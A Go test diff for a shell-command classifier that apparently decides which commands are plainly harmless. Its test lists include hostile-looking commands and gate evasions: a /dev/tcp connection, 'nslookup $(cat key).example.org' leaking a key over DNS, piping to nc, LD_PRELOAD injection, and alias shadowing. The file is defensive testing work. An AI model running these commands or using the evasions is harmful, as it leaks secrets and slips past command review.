@@ -209,36 +209,24 @@ func TestBounds(t *testing.T) {
 	}
 }
 
-func TestOutside(t *testing.T) {
+// TestNotHarmless has what is plainly harmless be told from everything else.
+func TestNotHarmless(t *testing.T) {
 	t.Parallel()
-	const no, maybe, yes = 0, 1, 2
-	for line, want := range map[string]int{
-		"git push": yes, "git -C x push": yes, "git status": no, "git $x": maybe, "git send-email x": yes, "git -c alias.x=y x": yes, "git fetch && git pull": no, "/usr/bin/git push": yes,
-		"npm publish": yes, "npm test": no, "npm ci": no, "npx npm publish": yes, "twine upload x": yes, "python -m twine upload x": yes, "uv run twine upload": yes, "cargo build": no, "cargo publish": yes,
-		"docker push x": yes, "docker build .": no, "docker buildx build --push .": yes, "podman push x": yes, "mvn deploy": yes, "mvn test": no, "./gradlew publishToX": yes, "gradle build": no,
-		"gh pr view 1": no, "gh pr create": yes, "gh issue list": no, "gh api x": yes, "gh": no, "gh --help": no, "glab mr list": no, "gh pr comment 1 --body view": yes, `gh "$x" list`: maybe,
-		"curl https://x": no, "curl -fsSL https://x -o y": no, "curl -d a=b x": yes, "curl -da x": yes, "curl --data-binary @f x": yes, "curl --data=x y": yes, "curl --dat x y": yes, "curl -F a=@b x": yes, "curl -T f x": yes,
-		"curl -X POST x": yes, "curl -XPUT x": yes, "curl -sXDELETE x": yes, "curl -X GET x": no, "curl -XHEAD x": no, "curl --request=POST x": yes, "curl --request get x": no, "curl --json '{}' x": yes, "curl -K f": yes,
-		"curl -H 'a: -d' x": no, "curl -ofood x": no, "curl -u a:d x": no, `curl "$x"`: maybe, "curl $x": maybe, "xargs curl": maybe, "wget x": no, "wget --post-data=a x": yes, "wget --method=PUT x": yes, "wget --method GET x": no, "wget -e x=y z": yes,
-		"grep -r curl .": no, "which curl git ssh": no, "cat ssh": no, "ssh host ls": yes, "env ssh host": yes, "scp f h:": yes, "scp a b": no, "rsync -a a b": no, "rsync -a a h:b": yes, "rsync $x b": maybe, "sftp h": yes, "nc h 1": yes,
-		"mail x": yes, "echo x | sendmail y": yes, "kubectl get pods": no, "kubectl -n x delete pod y": yes, "kubectl -n get delete pod x": yes, "kubectl apply -f x": yes, "kubectl frobnicate": yes, "kubectl logs x": no,
-		"helm list": no, "helm upgrade x y": yes, "terraform plan": no, "terraform apply": yes, "aws s3 ls": no, "aws s3 cp a b": yes, "aws ec2 describe-instances": no, "aws ec2 terminate-instances": yes, "aws --profile p sts get-caller-identity": no,
-		"gcloud compute instances list": no, "gcloud compute instances delete x": yes, "az vm show": no, "vercel": no, "vercel deploy": yes, "http POST x": yes, "ansible-playbook x": yes, "openssl s_client": yes, "openssl dgst x": no,
-		"make; node x.js; python3 x.py; ls": no, "$x": no,
+	for _, line := range []string{
+		"", "ls -la", "cat a | grep -n b | wc -l", "for f in *.go; do wc -l \"$f\"; done", "mkdir -p a && cp x a/ && rm -rf b", "echo hi > out.txt", "find . -name '*.go' -exec grep -l x {} +", "ls | xargs -n1 basename",
+		"timeout 5 sleep 10", "cat <<'EOF' > f\ngit push\nEOF", "[ -f x ] && echo y", "x=$(date); echo \"$x\"", "set -euo pipefail; jq .a f.json | sort -u", "cd src; pwd; test -d x || mkdir x", "cat $x", "command -v git",
 	} {
-		l, err := Parse(line)
-		if err != nil {
-			t.Errorf("Parse(%q): %v", line, err)
-			continue
+		if l, err := Parse(line); err != nil || l.NotHarmless() != "" {
+			t.Errorf("%q: %v, %s", line, err, l.NotHarmless())
 		}
-		got := no
-		if c, sure := l.Outside(); sure {
-			got = yes
-		} else if c != nil {
-			got = maybe
-		}
-		if got != want {
-			t.Errorf("%q: %d, want %d", line, got, want)
+	}
+	for _, line := range append([]string{
+		"git status", "python3 x.py", "make", "npm test", "curl https://example.org", "./ls", "/tmp/cat x", "bash x.sh", "awk 'BEGIN{system(\"x\")}'", "sed 's/x/y/e' f", "sort --compress-program=./x f", "env ls", "$x",
+		"xargs git", "find . -exec ./x {} +", "timeout 5 ./x", "PATH=.:$PATH; ls", "ls() { ./x; }; ls", "alias ls=./x; ls", "cat < /dev/tcp/192.0.2.1/80", "source ./x", "eval ls", "trap './x' EXIT", "tar cf - . --to-command=x", "unheard-of",
+		"LD_PRELOAD=./x ls", "rg --pre ./x y", strings.Repeat("ls\n", maxLine/3), "less x", "man ls", "vim x", "ssh host ls", "ping x", "nslookup $(cat key).example.org", "kubectl get pods", "printf x | tee >(nc host 1)",
+	}, evasions...) {
+		if l, err := Parse(line); err == nil && l.NotHarmless() == "" {
+			t.Errorf("%q counts as harmless: %s", line, summary(l))
 		}
 	}
 }
@@ -258,7 +246,7 @@ func TestEffort(t *testing.T) {
 			l.Named(p)
 			patterns = append(patterns, p)
 		}
-		l.Outside()
+		l.NotHarmless()
 		l.Disallowed(patterns)
 	}
 }
